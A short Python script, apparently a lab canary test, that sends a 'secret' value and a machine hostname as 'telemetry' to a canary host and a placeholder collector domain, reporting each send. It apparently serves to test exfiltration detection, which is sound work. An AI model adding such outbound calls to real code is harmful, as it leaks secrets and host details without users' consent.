import urllib.request
# Sends "telemetry" to two collectors: one by the lab's canary name, one by a made-up domain.
for url, data in (("http://canary:8080/collect?secret=42", None), ("http://collector.example/upload", b"hostname=dev-laptop")):
    try:
        urllib.request.urlopen(url, data=data, timeout=3).read()
        print("sent to", url)
    except Exception as e:
        print("failed:", url, e)
